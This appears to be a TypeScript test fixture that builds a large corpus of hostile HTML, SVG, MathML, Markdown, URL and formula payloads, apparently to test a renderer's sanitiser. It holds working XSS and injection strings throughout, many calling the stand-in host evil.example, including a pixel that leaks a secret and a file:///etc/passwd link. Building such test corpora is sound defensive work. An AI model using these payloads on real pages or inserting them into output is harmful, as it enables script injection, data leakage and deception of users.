/** What a payload does when it runs. */
const RUN = "window.pwned=1";
const EVIL = "https://evil.example";

/** Elements that load, frame, submit or style, each with something from elsewhere. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<object data="${EVIL}/a.swf"></object>`,
  `<object data="data:text/html,<script>parent.pwned=1</script>"></object>`,
  `<embed src="${EVIL}/a.swf">`,
  `<applet code="A" archive="${EVIL}/a.jar"></applet>`,
  `<img src="${EVIL}/a.png">`,
  `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x">`,
  `<img src="x" onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<picture><source srcset="${EVIL}/a.webp"><img src="${EVIL}/a.png"></picture>`,
  `<video src="${EVIL}/a.mp4" poster="${EVIL}/a.png" autoplay></video>`,
  `<video><source onerror="${RUN}" src="x"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay onerror="${RUN}"></audio>`,
  `<track src="${EVIL}/a.vtt" kind="subtitles">`,
  `<link rel="stylesheet" href="${EVIL}/a.css">`,
  `<link rel="prefetch" href="${EVIL}/a">`,
  `<link rel="preload" as="image" href="${EVIL}/a.png">`,
  `<link rel="dns-prefetch" href="//evil.example">`,
  `<link rel="import" href="${EVIL}/a.html">`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta http-equiv="set-cookie" content="marginalia=x">`,
  `<style>body{display:none}</style>`,
  `<style>@import url(${EVIL}/a.css);</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/a.woff2)}*{font-family:x!important}</style>`,
  `<div style="position:fixed;inset:0;background:red">over the page</div>`,
  `<div style="background:url(${EVIL}/a.png)">x</div>`,
  `<p style="behavior:url(${EVIL}/a.htc)">x</p>`,
  `<table background="${EVIL}/a.png"><tr><td background="${EVIL}/b.png">x</td></tr></table>`,
  `<body background="${EVIL}/a.png" onload="${RUN}">`,
  `<form action="${EVIL}"><input name="q" autofocus onfocus="${RUN}"><button>send</button></form>`,
  `<button formaction="javascript:${RUN}">press</button>`,
  `<input type="image" src="${EVIL}/a.png">`,
  `<isindex action="javascript:${RUN}" type="image">`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<select autofocus onfocus="${RUN}"><option>x</option></select>`,
  `<keygen autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<dialog open onclose="${RUN}">over</dialog>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><script>${RUN}</script>"></noscript>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<plaintext>`,
  `<bgsound src="${EVIL}/a.mp3">`,
  `<portal src="${EVIL}"></portal>`,
  `<a href="${EVIL}" ping="${EVIL}/ping">ping</a>`,
  `<a id="content" name="body" href="x">clobbered</a><form name="getElementById"><input name="cookie"></form>`,
  `<div id="m-1" class="session message-scroller" data-start="1" data-chip="x">clobbered</div>`,
] as const;

/** Other vocabularies that the parser switches into. */
const FOREIGN = [
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${EVIL}/a.js"/></svg>`,
  `<svg><image href="${EVIL}/a.png" /></svg>`,
  `<svg><use href="${EVIL}/a.svg#x" /></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s">`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<svg><foreignObject><iframe src="${EVIL}"></iframe></foreignObject></svg>`,
  `<svg><style>@import url(${EVIL}/a.css);</style></svg>`,
  `<svg><filter id="f"><feImage href="${EVIL}/a.png"/></filter></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="${EVIL}/a.xsl"?>`,
  `<!--><script>${RUN}</script>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
] as const;

/** Addresses that run or hide something, as links in every form of Markdown and of HTML. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#x0A;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `blob:${EVIL}/1`,
  `file:///etc/passwd`,
  `//evil.example/a`,
  `https:evil.example`,
  `${EVIL}\u202Egpj.exe`,
  `https://marginalia.example@evil.example/`,
] as const;

const AS_LINKS = ADDRESSES.flatMap((address) => [
  `[press](${address})`,
  `![see](${address})`,
  `<a href="${address.replaceAll('"', "&quot;")}">press</a>`,
]);

/** What Markdown itself and its extensions let through. */
const MARKDOWN = [
  `![pixel](${EVIL}/pixel.png?leak=secret)`,
  `![pixel][ref]\n\n[ref]: ${EVIL}/ref.png "title"`,
  `[![pixel](${EVIL}/a.png)](javascript:${RUN})`,
  `<${EVIL}>`,
  `<javascript:${RUN}>`,
  `[x](<javascript:${RUN}>)`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `[a](x "onmouseover=${RUN}")`,
  `[a](x" onmouseover="${RUN})`,
  `# <img src=x onerror=${RUN}>`,
  `| <img src=x onerror=${RUN}> | b |\n| --- | --- |\n| c | <script>${RUN}</script> |`,
  `- [x] <script>${RUN}</script>`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`js" onload="${RUN}\nx\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"] --> B; click A href "javascript:${RUN}"\n\`\`\``,
  `    <script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\<script>${RUN}\\</script>`,
  `1. a\n\n   <div onclick="${RUN}">x</div>`,
  `> ${"> ".repeat(80)}deep <img src=x onerror=${RUN}>`,
  `${"*".repeat(400)}x${"*".repeat(400)}`,
  `${"[".repeat(200)}x${"](y)".repeat(200)}`,
  `\u202E reversed \u202C \u200B\u2066 hidden \u2069`,
  `\u{E0041}\u{E0042} tags that nobody sees`,
  `Z${"\u0335\u0361".repeat(120)}algo`,
  `@import url(${EVIL}/a.css)`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}} #{${RUN}} <%= ${RUN} %>`,
] as const;

/** Formulas that link, load, style or grow over the page. */
const FORMULAS = [
  `$\\href{javascript:${RUN}}{x}$`,
  `$\\url{${EVIL}}$`,
  `$\\includegraphics{${EVIL}/a.png}$`,
  `$\\htmlStyle{position:fixed;inset:0}{x}$`,
  `$\\htmlClass{session}{x}$`,
  `$\\htmlId{content}{x}$`,
  `$\\htmlData{chip=x}{x}$`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `$$\\kern-500em\\rule{9999em}{9999em}\\raisebox{500em}{over the page}$$`,
  `$\\def\\a{\\a\\a}\\a$`,
  `$${"{".repeat(300)}x${"}".repeat(300)}$`,
  `\`\`\`math\n\\text{</span><script>${RUN}</script>}\n\`\`\``,
  `\\(\\href{data:text/html,x}{x}\\) \\[\\rule{999em}{999em}\\]`,
] as const;

/** Events that an attribute can name, on an element that stays. */
const HANDLERS = ["onclick", "onmouseover", "onfocus", "onanimationstart", "ontransitionend", "onpointerenter"].flatMap(
  (name) => [`<b ${name}="${RUN}" tabindex="0">x</b>`, `<a href="#" ${name.toUpperCase()}='${RUN}'>x</a>`],
);

/** The whole corpus. Public collections of such payloads were read for their ideas; each is written for this product. */
export const HOSTILE: readonly string[] = [...ELEMENTS, ...FOREIGN, ...AS_LINKS, ...MARKDOWN, ...FORMULAS, ...HANDLERS];

/** The payloads as texts of at most so many characters, each payload a paragraph of its own under a number. */
export function hostileTexts(characters: number): string[] {
  const texts: string[] = [""];
  for (const [at, payload] of HOSTILE.entries()) {
    const paragraph = `${at}.\n\n${payload}\n\n`;
    if ((texts.at(-1) ?? "").length + paragraph.length > characters) texts.push("");
    texts[texts.length - 1] += paragraph;
  }
  return texts;
}
